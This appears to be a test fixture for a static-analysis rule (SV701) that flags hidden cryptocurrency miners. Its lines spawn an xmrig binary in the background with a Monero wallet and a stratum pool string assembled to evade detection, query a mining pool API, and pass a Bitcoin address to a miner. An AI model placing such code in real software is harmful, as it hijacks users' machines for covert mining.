const { spawn } = require('child_process');
const path = require('path');

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'; // want "SV701: Monero wallet"
const pool = ['stratum', '+tcp://', 'pool.hashvault.pro:3333'].join('');                              // want "SV701: stratum"
const bin = path.join(__dirname, 'bin', 'xm' + 'rig');                                                 // want "SV701: starts a miner"
spawn(bin, ['-o', pool, '-u', wallet, '--donate-level', '1', '--background']);                           // want "SV701: miner command-line flags"
fetch('https://api.moneroocean.stream/miner/' + wallet + '/stats');                                    // want "SV701: mining pool host api.moneroocean.stream"
spawn('./bin/miner', ['--user', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq']); // want "SV701: Bitcoin wallet address passed to a process"
